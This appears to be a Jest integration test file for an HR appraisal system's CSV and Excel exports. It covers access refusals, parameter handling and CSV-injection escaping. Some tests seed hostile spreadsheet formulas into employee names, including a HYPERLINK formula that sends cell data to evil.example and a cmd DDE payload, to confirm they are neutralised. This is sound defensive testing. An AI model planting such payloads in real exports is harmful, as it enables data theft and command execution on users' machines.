import { type IncomingMessage, type ServerResponse } from 'node:http';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { Role } from '../../src/core/auth/role';
import { givenApprovedPlans } from '../support/approved-plans';
import { eachCase } from '../support/authorization-matrix';
import { TestApp } from '../support/test-app';
import { wit } from './evaluation-helpers';
import {
  ACHIEVEMENT,
  type AnalyticsFixture,
  ANALYTICS_QUERY,
  type AnalyticsOut,
  buildAnalyticsFixture,
  COMPLETION,
  dbIdOf,
  DISTRIBUTION,
  exportUrl,
  gid,
  PREDIKATS,
  RESPONSIVENESS,
  unitGid,
} from './analytics-helpers';
import { Planning } from './planning-helpers';
import { CSV_PAYLOADS, naivePieces, readsAsText, spreadsheetCells } from '../support/csv-readers';

/**
 * The CSV exports of issue 6 over HTTP: `/exports/analytics/<breakdown>.csv` and `/exports/appraisal-results.csv`
 * with the same bearer token and policy as GraphQL, parsed with csv-parse and compared with the GraphQL figures;
 * the refusals (401, 400, 403, 404); CSV injection; and a 100,000-row export.
 */

type Row = Record<string, string>;

interface CsvResponse {
  status: number;
  headers: Headers;
  text: string;
  rows: Row[];
}

async function getCsv(url: string, token: string | null, extra: Record<string, string> = {}): Promise<CsvResponse> {
  const res = await fetch(url, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...extra } });
  // Read as bytes: `res.text()` would drop a byte order mark, which some tests look for.
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  const csv = res.headers.get('content-type')?.startsWith('text/csv') ?? false;
  const delimiter = ['semicolon', ';'].includes(new URL(url).searchParams.get('separator') ?? '') ? ';' : ',';
  return {
    status: res.status,
    headers: res.headers,
    text,
    rows: csv ? (parse(text, { columns: true, bom: true, delimiter }) as Row[]) : [],
  };
}

/** A GraphQL figure as its CSV cell: null is empty, booleans and numbers as text. */
const cell = (v: unknown): string => (v === null || v === undefined ? '' : String(v));

/** The figures with each group's unit code, which the exports key the unit breakdown by. */
const WITH_CODES = [DISTRIBUTION, COMPLETION, ACHIEVEMENT, RESPONSIVENESS]
  .map((selection) => selection.replace('{ key label', '{ key unitCode label'))
  .join(' ');
type Coded<T> = T & { unitCode: string | null };
type CodedAnalytics = {
  [K in 'distribution' | 'completion' | 'achievement' | 'responsiveness']: Array<Coded<AnalyticsOut[K][number]>>;
};

describe('analytics CSV exports', () => {
  let app: TestApp;
  let fx: AnalyticsFixture;
  let pid: string;

  beforeAll(async () => {
    app = await TestApp.start();
    fx = await buildAnalyticsFixture(app);
    pid = fx.year.period.id;
    app.clock.set(wit('2028-01-10'));
  }, 120_000);
  afterAll(() => app?.stop());

  const url = (path: string, params: Record<string, string | undefined> = {}) =>
    exportUrl(app, path, { unitId: unitGid(fx.dinkes), periodId: pid, ...params });
  const graphql = async (token: string, vars: Record<string, unknown> = {}) =>
    (
      await app.data<{ analytics: CodedAnalytics }>(
        ANALYTICS_QUERY(WITH_CODES),
        { u: unitGid(fx.dinkes), p: pid, ...vars },
        token,
      )
    ).analytics;

  /**
   * The leading columns of a group's row: the year; in the unit breakdown the group's unit (and its code as the
   * key), otherwise the unit asked for.
   */
  const lead = (g: Coded<{ key: string; label: string }>, breakdown: string, unit: { code: string; name: string }) =>
    breakdown === 'UNIT'
      ? { year: '2027', unit_code: g.unitCode!, unit_name: g.label, key: g.unitCode!, label: g.label }
      : { year: '2027', unit_code: unit.code, unit_name: unit.name, key: g.key, label: g.label };

  /** The CSV rows a list of GraphQL groups should give, as strings, in the export's columns. */
  const expectedRows = {
    distribution: (a: CodedAnalytics, b = 'UNIT', unit = fx.dinkes) =>
      a.distribution.map((g) => ({
        ...lead(g, b, unit),
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        pending: cell(g.pending),
        ...Object.fromEntries(g.counts.map((c) => [c.predikat.toLowerCase(), cell(c.count)])),
        unit_rating: cell(g.unitRating),
        curve_violations: g.violations.map((v) => v.rule).join('; '),
      })),
    completion: (a: CodedAnalytics, b = 'UNIT', unit = fx.dinkes) =>
      a.completion.map((g) => ({
        ...lead(g, b, unit),
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        draft: cell(g.draft),
        submitted: cell(g.submitted),
        returned: cell(g.returned),
        approved: cell(g.approved),
        revising: cell(g.revising),
        evaluated: cell(g.evaluated),
        final: cell(g.final),
        planning_overdue: cell(g.planningOverdue),
        evaluation_overdue: cell(g.evaluationOverdue),
      })),
    achievement: (a: CodedAnalytics, b = 'UNIT', unit = fx.dinkes) =>
      a.achievement.map((g) => ({
        ...lead(g, b, unit),
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        indicators: cell(g.indicators),
        average_achievement: cell(g.averageAchievement),
        met: cell(g.met),
      })),
    responsiveness: (a: CodedAnalytics, b = 'UNIT', unit = fx.dinkes) =>
      a.responsiveness.map((g) => ({
        ...lead(g, b, unit),
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        realizations: cell(g.realizations),
        realization_feedback_share: cell(g.realizationFeedbackShare),
        median_hours_to_feedback: cell(g.medianHoursToFeedback),
        activities: cell(g.activities),
        activity_review_share: cell(g.activityReviewShare),
        median_hours_to_review: cell(g.medianHoursToReview),
      })),
  };
  const KINDS = ['distribution', 'completion', 'achievement', 'responsiveness'] as const;

  it.each(KINDS)('%s.csv for HR matches the GraphQL figures, with CSV headers and no caching', async (kind) => {
    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.hr);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${kind}-2027-${fx.dinkes.code}.csv"`);
    expect(res.headers.get('cache-control')).toMatch(/no-store/);
    expect(res.rows).toEqual(expectedRows[kind](await graphql(fx.tokens.hr)));
    expect(res.rows.length).toBeGreaterThan(0);
  });

  it.each(KINDS)('%s.csv for an analyst matches the GraphQL figures: nothing of a year not closed', async (kind) => {
    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst);
    expect(res.status).toBe(200);
    const a = await graphql(fx.tokens.analyst);
    expect(res.rows).toEqual(expectedRows[kind](a));
    // The year is being evaluated: nothing is released to analysts before it is closed.
    expect(res.rows).toEqual([]);
  });

  it('a breakdown by position kind and a unit without subunits reach the export as parameters', async () => {
    const kinds = await getCsv(url('analytics/distribution.csv', { breakdown: 'POSITION_KIND' }), fx.tokens.hr);
    expect(kinds.rows).toEqual(
      expectedRows.distribution(await graphql(fx.tokens.hr, { b: 'POSITION_KIND' }), 'POSITION_KIND'),
    );
    expect(kinds.rows.map((r) => [r.year, r.unit_code, r.key])).toContainEqual(['2027', fx.dinkes.code, 'FUNGSIONAL']);
    const own = await getCsv(
      url('analytics/completion.csv', { unitId: unitGid(fx.pkm), includeSubunits: 'false' }),
      fx.tokens.hr,
    );
    expect(own.rows.map((r) => [r.key, r.employees, r.draft, r.submitted, r.approved, r.evaluated])).toEqual([
      [fx.pkm.code, '9', '1', '1', '1', '6'],
    ]);
  });

  it('appraisal-results.csv: one row per plan for HR, summing to the distribution and completion figures', async () => {
    const res = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="appraisal-results-2027-${fx.dinkes.code}.csv"`,
    );
    expect(res.headers.get('cache-control')).toMatch(/no-store/);
    expect(Object.keys(res.rows[0]!)).toEqual([
      'year',
      'nip',
      'name',
      'unit_code',
      'unit_name',
      'position_title',
      'position_kind',
      'grade',
      'status',
      'result_rating',
      'behavior_rating',
      'predikat',
      'credit_points',
      'objection',
      'delivered_at',
    ]);
    expect(res.rows).toHaveLength(14);
    expect(new Set(res.rows.map((r) => r.year))).toEqual(new Set(['2027']));
    const nips = [fx.kadinkes, fx.head, fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)]
      .map((x) => x.nip)
      .sort();
    expect(res.rows.map((r) => r.nip).sort()).toEqual(nips);
    const hr = await graphql(fx.tokens.hr);
    const units = { [fx.dinkes.code]: fx.dinkes, [fx.pkm.code]: fx.pkm, [fx.pustu.code]: fx.pustu };
    for (const [code, unit] of Object.entries(units)) {
      const mine = res.rows.filter((r) => r.unit_code === code);
      const dist = hr.distribution.find((g) => g.key === unitGid(unit))!;
      expect(mine).toHaveLength(dist.employees);
      expect(PREDIKATS.map((p) => mine.filter((r) => r.predikat === p).length)).toEqual(
        dist.counts.map((c) => c.count),
      );
      expect(mine.filter((r) => r.predikat === '').length).toBe(dist.pending);
      const done = hr.completion.find((g) => g.key === unitGid(unit))!;
      const count = (s: string) => mine.filter((r) => r.status === s).length;
      expect([
        count('DRAFT'),
        count('SUBMITTED'),
        count('RETURNED'),
        count('APPROVED'),
        count('REVISING'),
        count('EVALUATED'),
        count('FINAL'),
      ]).toEqual([done.draft, done.submitted, done.returned, done.approved, done.revising, done.evaluated, done.final]);
    }
    // The finalized Pustu plans carry their delivery; the row of the lead reads as rated.
    const leadRow = res.rows.find((r) => r.nip === fx.lead.nip)!;
    expect(leadRow).toMatchObject({
      status: 'FINAL',
      result_rating: 'SESUAI_EKSPEKTASI',
      behavior_rating: 'DI_BAWAH_EKSPEKTASI',
      predikat: 'KURANG_MISCONDUCT',
      unit_name: 'Pustu Walesi',
    });
    expect(leadRow.delivered_at).not.toBe('');
  });

  it('appraisal-results.csv for a supervisor: the people below her only; for a peer: the header alone', async () => {
    const head = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.head));
    expect(head.status).toBe(200);
    const below = [fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort();
    expect(head.rows.map((r) => r.nip).sort()).toEqual(below);
    const peer = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.n[0]!.owner));
    expect(peer.status).toBe(200);
    expect(peer.rows).toEqual([]);
    expect(peer.text.trim().split('\n')).toHaveLength(1);
    // A scoped HR admin of the Pustu: its four plans; the Puskesmas is not hers (404).
    const scoped = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.scopedHr);
    expect(scoped.rows.map((r) => r.nip).sort()).toEqual(
      [fx.lead, ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort(),
    );
    expect((await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.scopedHr)).status).toBe(
      404,
    );
  });

  it('refuses: 401 without or with a bad token, 400 for missing or bad parameters, 404 for an unknown unit or export, 403 for analysts on row-level results', async () => {
    const paths = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
    const expired = await app.token('bps-analytics', { roles: [Role.ANALYST], expiresIn: -60 });
    const forged = await app.token('bps-analytics', {
      roles: [Role.ANALYST],
      secret: 'not-the-secret-of-this-server-0123456789abcdef',
    });
    for (const path of paths) {
      for (const token of [null, 'garbage', expired, forged]) {
        const res = await getCsv(url(path), token);
        expect([path, res.status, res.text.includes('UNAUTHENTICATED')]).toEqual([path, 401, true]);
      }
      expect([
        path,
        (await getCsv(url(path, { unitId: undefined, periodId: undefined }), fx.tokens.hr)).status,
      ]).toEqual([path, 400]);
      expect([path, (await getCsv(exportUrl(app, path, { unitId: unitGid(fx.dinkes) }), fx.tokens.hr)).status]).toEqual(
        [path, 400],
      );
      expect([path, (await getCsv(url(path, { includeSubunits: 'maybe' }), fx.tokens.hr)).status]).toEqual([path, 400]);
      expect([path, (await getCsv(url(path, { breakdown: 'GENDER' }), fx.tokens.hr)).status]).toEqual([path, 400]);
      expect([
        path,
        (await getCsv(url(path, { unitId: unitGid({ id: 987_654 } as never) }), fx.tokens.hr)).status,
      ]).toEqual([path, 404]);
      expect([path, (await getCsv(url(path, { periodId: unitGid(fx.pkm) }), fx.tokens.hr)).status]).toEqual([
        path,
        404,
      ]);
      expect([path, (await getCsv(url(path), fx.tokens.integration)).status]).toEqual([path, 404]);
    }
    expect((await getCsv(url('analytics/salaries.csv'), fx.tokens.hr)).status).toBe(404);
    expect((await getCsv(url('analytics/distribution.json'), fx.tokens.hr)).status).toBe(404);
    const analyst = await getCsv(url('appraisal-results.csv'), fx.tokens.analyst);
    expect(analyst.status).toBe(403);
    expect(analyst.rows).toEqual([]);
    expect(analyst.text).not.toContain(fx.n[0]!.owner.nip);
  });

  it('prefixes formula-looking names with an apostrophe (CSV injection), in labels and in row-level cells', async () => {
    const escape = (name: string) => app.db.dataSource.driver.escape(name);
    const [oldUnit, oldName] = [fx.pustu.name, fx.b[2]!.owner.name];
    const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.rowId]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.rowId]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
      '@SUM(1+1)',
      fx.b[1]!.owner.rowId,
    ]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
      '-2+3',
      fx.b[0]!.owner.rowId,
    ]);
    try {
      const dist = await getCsv(url('analytics/distribution.csv'), fx.tokens.hr);
      expect(dist.rows.find((r) => r.key === fx.pustu.code)!).toMatchObject({
        label: "'+Pustu Walesi",
        unit_name: "'+Pustu Walesi",
      });
      const rows = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.hr);
      const byNip = Object.fromEntries(rows.rows.map((r) => [r.nip, r]));
      expect(byNip[fx.b[2]!.owner.nip]).toMatchObject({ name: `'${nasty}`, unit_name: "'+Pustu Walesi" });
      expect(byNip[fx.b[1]!.owner.nip]!.name).toBe("'@SUM(1+1)");
      expect(byNip[fx.b[0]!.owner.nip]!.name).toBe("'-2+3");
      // Ordinary names are left alone.
      expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
    } finally {
      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.rowId]);
      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
        oldName,
        fx.b[2]!.owner.rowId,
      ]);
    }
  });

  it('no cell of any export starts a formula, read with comma, semicolon, tab or bar as the separator (issue 15: `Hendrik;=cmd|…` with Indonesian settings)', async () => {
    const escape = (name: string) => app.db.dataSource.driver.escape(name);
    const people = [...fx.n, ...fx.b];
    const units = [fx.dinkes, fx.pkm, fx.pustu];
    const saved = {
      people: (await app.db.manager.query(
        `SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.rowId).join(', ')})`,
      )) as Array<{ id: number; name: string }>,
      titles: (await app.db.manager.query(
        `SELECT id, position_title FROM ${escape('appraisal')} WHERE id IN (${people.map((m) => dbIdOf(m.plan.id)).join(', ')})`,
      )) as Array<{ id: number; position_title: string }>,
      units: (await app.db.manager.query(
        `SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.rowId).join(', ')})`,
      )) as Array<{ id: number; name: string }>,
    };
    const payload = (i: number) => CSV_PAYLOADS[i % CSV_PAYLOADS.length]!;
    for (const [i, m] of people.entries()) {
      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [payload(i), m.owner.rowId]);
      await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
        payload(i + people.length),
        dbIdOf(m.plan.id),
      ]);
    }
    for (const [i, u] of units.entries())
      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.rowId]);
    try {
      const files = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
      const texts: string[] = [];
      for (const path of files) {
        for (const breakdown of ['UNIT', 'POSITION_KIND', 'GRADE']) {
          const res = await getCsv(url(path, { breakdown }), fx.tokens.hr);
          expect([path, res.status]).toEqual([path, 200]);
          texts.push(res.text);
        }
      }
      // Every payload reached an export (names, plan titles, unit labels).
      const results = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
      const renamed = new Set(people.map((m) => m.owner.nip));
      expect(
        results.rows
          .filter((r) => renamed.has(r.nip!))
          .map((r) => [r.name!.includes("'"), r.position_title!.includes("'")]),
      ).toEqual(people.map(() => [true, true]));
      for (const text of texts) {
        // Every field is quoted.
        expect(text.split('\n')[0]).toMatch(/^"[a-z_]+"(,"[A-Za-z_]+")*$/);
        for (const delimiter of [',', ';', '\t', '|'])
          expect([delimiter, spreadsheetCells(text, delimiter).filter((c) => !readsAsText(c))]).toEqual([
            delimiter,
            [],
          ]);
        expect(naivePieces(text).filter((c) => !readsAsText(c))).toEqual([]);
      }
      // A strict CSV reader gets the names back, apostrophes added only where a cell could begin a formula.
      const byNip = Object.fromEntries(results.rows.map((r) => [r.nip, r]));
      expect(byNip[people[CSV_PAYLOADS.indexOf("Hendrik;=cmd|'/C calc'!A0;x")]!.owner.nip]!.name).toBe(
        "Hendrik;'=cmd|'/C calc'!A0;x",
      );
      expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
    } finally {
      for (const r of saved.people)
        await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [r.name, r.id]);
      for (const r of saved.titles)
        await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
          r.position_title,
          r.id,
        ]);
      for (const r of saved.units)
        await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [r.name, r.id]);
    }
  });

  it('an analyst gets the four breakdowns in one GraphQL request and as CSV, the same figures', async () => {
    const a = await graphql(fx.tokens.analyst);
    for (const kind of KINDS)
      expect((await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst)).rows).toEqual(expectedRows[kind](a));
    expect(dbIdOf(pid)).toBeGreaterThan(0);
  });

  // ---- Issue 19 (item 5): exports an analyst can open in Excel -----------------------------------------------

  const FILES = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
  const UNKNOWN_UNIT = gid('Unit', 987_654);
  const UNKNOWN_PERIOD = gid('PerformancePeriod', 987_654);

  it('by unit code (any case) and year, every export is byte for byte what the global ids give', async () => {
    for (const path of FILES) {
      for (const breakdown of ['UNIT', 'GRADE']) {
        const byId = await getCsv(url(path, { breakdown }), fx.tokens.hr);
        const byCode = await getCsv(
          exportUrl(app, path, { unitCode: fx.dinkes.code.toLowerCase(), year: '2027', breakdown }),
          fx.tokens.hr,
        );
        expect([path, byId.status, byCode.status]).toEqual([path, 200, 200]);
        expect(byCode.text).toBe(byId.text);
        expect(byCode.headers.get('content-disposition')).toBe(byId.headers.get('content-disposition'));
      }
    }
    // A code and a period id, or a unit id and a year, mix freely.
    const mixed = await getCsv(
      exportUrl(app, 'analytics/completion.csv', { unitCode: fx.pkm.code, periodId: pid }),
      fx.tokens.hr,
    );
    const byId = await getCsv(url('analytics/completion.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.hr);
    expect(mixed.text).toBe(byId.text);
  });

  it('refuses a unit or period named twice or not at all (400), and an unknown code or year as an unknown id (404)', async () => {
    for (const path of FILES) {
      const bad = async (params: Record<string, string | undefined>) => {
        const res = await getCsv(exportUrl(app, path, params), fx.tokens.hr);
        expect([path, params, res.status, JSON.parse(res.text).error.code]).toEqual([path, params, 400, 'BAD_REQUEST']);
        return JSON.parse(res.text).error.message as string;
      };
      expect(await bad({ unitId: unitGid(fx.pkm), unitCode: fx.pkm.code, year: '2027' })).toMatch(/unitCode/);
      expect(await bad({ year: '2027' })).toMatch(/unitCode/);
      expect(await bad({ unitCode: fx.pkm.code, periodId: pid, year: '2027' })).toMatch(/year/);
      expect(await bad({ unitCode: fx.pkm.code })).toMatch(/year/);
      for (const year of ['27', '2027.0', ' 2027', 'MMXXVII'])
        expect(await bad({ unitCode: fx.pkm.code, year })).toMatch(/year/);
      const unknownById = await getCsv(exportUrl(app, path, { unitId: UNKNOWN_UNIT, periodId: pid }), fx.tokens.hr);
      const unknownByCode = await getCsv(
        exportUrl(app, path, { unitCode: 'NO-SUCH-UNIT', year: '2027' }),
        fx.tokens.hr,
      );
      expect([unknownByCode.status, unknownByCode.text]).toEqual([404, unknownById.text]);
      const noYear = await getCsv(exportUrl(app, path, { unitCode: fx.pkm.code, year: '2031' }), fx.tokens.hr);
      const noPeriod = await getCsv(url(path, { periodId: UNKNOWN_PERIOD }), fx.tokens.hr);
      expect([noYear.status, noYear.text]).toEqual([404, noPeriod.text]);
    }
  });

  it('GraphQL `analytics(unitCode:, year:)` gives what the ids give; both or neither of a pair is BAD_USER_INPUT; an unknown code or year is null', async () => {
    const query = `query($u: ID, $c: String, $p: ID, $y: Int) { analytics(unitId: $u, unitCode: $c, periodId: $p, year: $y) { mode ${WITH_CODES} } }`;
    const ask = (vars: Record<string, unknown>, token = fx.tokens.hr) =>
      app.gql<{ analytics: unknown }>(query, vars, token);
    for (const token of [fx.tokens.hr, fx.tokens.analyst, fx.tokens.scopedHr]) {
      for (const [unit, year, period] of [
        [fx.pkm, 2027, pid],
        [fx.dinkes, 2026, fx.y2026.period.id],
      ] as const) {
        const byId = await ask({ u: unitGid(unit), p: period }, token);
        expect(byId.body.errors).toBeUndefined();
        expect((await ask({ c: unit.code.toLowerCase(), y: year }, token)).body).toEqual(byId.body);
      }
    }
    const hr = await ask({ c: fx.pkm.code, y: 2027 });
    expect((hr.body.data!.analytics as CodedAnalytics).distribution.map((g) => g.unitCode)).toEqual([
      fx.pkm.code,
      fx.pustu.code,
    ]);
    // The error names the pair at fault (the service keeps only `code` in an error's extensions).
    const refused = async (vars: Record<string, unknown>, pair: RegExp) => {
      const res = await ask(vars);
      expect(res.body.errors?.map((e) => e.extensions?.code)).toEqual(['BAD_USER_INPUT']);
      expect(res.body.errors![0]!.message).toMatch(pair);
      expect(res.body.data?.analytics ?? null).toBeNull();
    };
    await refused({ u: unitGid(fx.pkm), c: fx.pkm.code, y: 2027 }, /`unitId`.*`unitCode`/);
    await refused({ y: 2027 }, /`unitId`.*`unitCode`/);
    await refused({ c: fx.pkm.code, p: pid, y: 2027 }, /`periodId`.*`year`/);
    await refused({ c: fx.pkm.code }, /`periodId`.*`year`/);
    for (const vars of [
      { c: 'NO-SUCH-UNIT', y: 2027 },
      { c: fx.pkm.code, y: 2031 },
      { u: UNKNOWN_UNIT, y: 2027 },
    ]) {
      const res = await ask(vars);
      expect([vars, res.body.errors, res.body.data]).toEqual([vars, undefined, { analytics: null }]);
    }
  });

  it('separator=semicolon writes `;` and decimal commas, bom=true a byte order mark; the default stays comma, point and no mark', async () => {
    const plain = await getCsv(url('analytics/achievement.csv'), fx.tokens.hr);
    expect(plain.text.startsWith('"year","unit_code"')).toBe(true);
    const excel = await getCsv(url('analytics/achievement.csv', { separator: 'semicolon', bom: 'true' }), fx.tokens.hr);
    expect(excel.status).toBe(200);
    expect(excel.headers.get('content-disposition')).toBe(plain.headers.get('content-disposition'));
    expect(excel.text.startsWith('\uFEFF"year";"unit_code";"unit_name";"key";"label";"employees"')).toBe(true);
    expect(excel.rows).toEqual(
      plain.rows.map((r) => ({ ...r, average_achievement: r.average_achievement!.replace('.', ',') })),
    );
    expect(excel.rows.some((r) => r.average_achievement!.includes(','))).toBe(true);
    const semicolonOnly = await getCsv(url('appraisal-results.csv', { separator: ';' }), fx.tokens.hr);
    expect(semicolonOnly.text.startsWith('"year";"nip"')).toBe(true);
    expect(
      (await getCsv(url('appraisal-results.csv', { bom: '1' }), fx.tokens.hr)).text.startsWith('\uFEFF"year","nip"'),
    ).toBe(true);
    for (const [path, params] of [
      ['analytics/distribution.csv', { separator: 'tab' }],
      ['analytics/distribution.csv', { separator: 'toString' }],
      ['analytics/distribution.csv', { bom: 'yes' }],
      ['analytics/distribution.xlsx', { separator: 'semicolon' }],
      ['analytics/distribution.xlsx', { bom: 'true' }],
      ['analytics/distribution.csv', { format: 'pdf' }],
      ['analytics/distribution.csv', { format: 'xlsx' }],
      ['appraisal-results.xlsx', { format: 'csv' }],
      ['analytics/distribution.csv', { breakdown: 'toString' }],
    ] as const) {
      const res = await getCsv(url(path, params), fx.tokens.hr);
      expect([path, params, res.status]).toEqual([path, params, 400]);
    }
    expect((await getCsv(url('analytics/distribution.pdf'), fx.tokens.hr)).status).toBe(404);
    expect((await getCsv(url('analytics/toString.csv'), fx.tokens.hr)).status).toBe(404);
  });

  /** An xlsx export's one sheet as rows of cell values, with the response. */
  const getXlsx = async (path: string, token: string, params: Record<string, string | undefined> = {}) => {
    const res = await fetch(url(path, params), { headers: { authorization: `Bearer ${token}` } });
    const body = Buffer.from(await res.arrayBuffer());
    if (res.status !== 200) return { res, body, rows: [] as ExcelJS.CellValue[][], formulas: 0 };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
    expect(workbook.worksheets).toHaveLength(1);
    const rows: ExcelJS.CellValue[][] = [];
    let formulas = 0;
    workbook.worksheets[0]!.eachRow({ includeEmpty: true }, (row) => {
      const values: ExcelJS.CellValue[] = [];
      for (let i = 1; i <= row.cellCount; i++) {
        values.push(row.getCell(i).value);
        if (row.getCell(i).type === ExcelJS.ValueType.Formula) formulas += 1;
      }
      rows.push(values);
    });
    return { res, body, rows, formulas };
  };
  /** A sheet's rows as the CSV reader's records: every cell as its text, empty for none. */
  const records = (rows: ExcelJS.CellValue[][]): Row[] =>
    rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((h, i) => [String(h), cell(r[i] ?? null)])));

  it.each(KINDS)('%s.xlsx (and %s?format=xlsx): the CSV figures, numbers as numbers', async (kind) => {
    const csv = await getCsv(url(`analytics/${kind}.csv`, { breakdown: 'POSITION_KIND' }), fx.tokens.hr);
    for (const path of [`analytics/${kind}.xlsx`, `analytics/${kind}`]) {
      const { res, rows, formulas } = await getXlsx(path, fx.tokens.hr, {
        breakdown: 'POSITION_KIND',
        ...(path.endsWith('.xlsx') ? {} : { format: 'xlsx' }),
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${kind}-2027-${fx.dinkes.code}.xlsx"`);
      expect(res.headers.get('cache-control')).toMatch(/no-store/);
      expect(rows[0]).toEqual(
        csv.text
          .split('\n')[0]!
          .split(',')
          .map((h) => h.replace(/"/g, '')),
      );
      expect(records(rows)).toEqual(csv.rows);
      expect(formulas).toBe(0);
      const header = rows[0]!.map(String);
      for (const row of rows.slice(1)) {
        expect(row[header.indexOf('year')]).toBe(2027);
        expect(typeof row[header.indexOf('employees')]).toBe('number');
        expect(row[header.indexOf('unit_code')]).toBe(fx.dinkes.code);
      }
    }
  });

  it('appraisal-results.xlsx: the CSV rows with the names as they are (text cells, never formulas); refused alike', async () => {
    const escape = (name: string) => app.db.dataSource.driver.escape(name);
    const [who, old] = [fx.b[2]!.owner, fx.b[2]!.owner.name];
    const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, who.rowId]);
    try {
      const csv = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
      const { res, rows, formulas } = await getXlsx('appraisal-results.xlsx', fx.tokens.hr);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="appraisal-results-2027-${fx.dinkes.code}.xlsx"`,
      );
      expect(formulas).toBe(0);
      const sheet = records(rows);
      // The CSV guards the cell with an apostrophe; a workbook's text cell needs none.
      expect(sheet).toEqual(csv.rows.map((r) => ({ ...r, name: r.name!.replace(/^'/, '') })));
      expect(csv.rows.find((r) => r.nip === who.nip)!.name).toBe(`'${nasty}`);
      const header = rows[0]!.map(String);
      const row = rows.find((r) => r[header.indexOf('nip')] === who.nip)!;
      expect(row[header.indexOf('name')]).toBe(nasty);
      expect(row[header.indexOf('year')]).toBe(2027);
      const rated = rows.find((r) => r[header.indexOf('nip')] === fx.n[0]!.owner.nip)!;
      expect(typeof rated[header.indexOf('credit_points')]).toBe('number');
    } finally {
      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [old, who.rowId]);
    }
    const analyst = await getXlsx('appraisal-results.xlsx', fx.tokens.analyst);
    expect([analyst.res.status, JSON.parse(analyst.body.toString()).error.code]).toEqual([403, 'FORBIDDEN']);
    expect((await getXlsx('appraisal-results.xlsx', fx.tokens.scopedHr, { unitId: unitGid(fx.pkm) })).res.status).toBe(
      404,
    );
  });
});

// ---- Every new way in answers as the global ids do (docs/adr/0001-analyst-disclosure-control.md) ---------------

const ACTORS = ['hr', 'scopedHr', 'analyst', 'client', 'integration', 'head', 'peer'] as const;
type Actor = (typeof ACTORS)[number];
type Target = { unit: 'dinkes' | 'pkm' | 'pustu' | 'unknown'; year: 2026 | 2027 | 2031 };

describe('by unit code and year, each caller gets exactly what the global ids give them', () => {
  let app: TestApp;
  let fx: AnalyticsFixture;
  const tokens: Partial<Record<Actor, string>> = {};

  beforeAll(async () => {
    app = await TestApp.start();
    fx = await buildAnalyticsFixture(app);
    app.clock.set(wit('2028-01-10'));
    Object.assign(tokens, fx.tokens, { head: await fx.e.token(fx.head), peer: await fx.e.token(fx.n[0]!.owner) });
  }, 120_000);
  afterAll(() => app?.stop());

  const byId = (t: Target) => ({
    unitId: t.unit === 'unknown' ? gid('Unit', 987_654) : unitGid(fx[t.unit]),
    periodId:
      t.year === 2027 ? fx.year.period.id : t.year === 2026 ? fx.y2026.period.id : gid('PerformancePeriod', 987_654),
  });
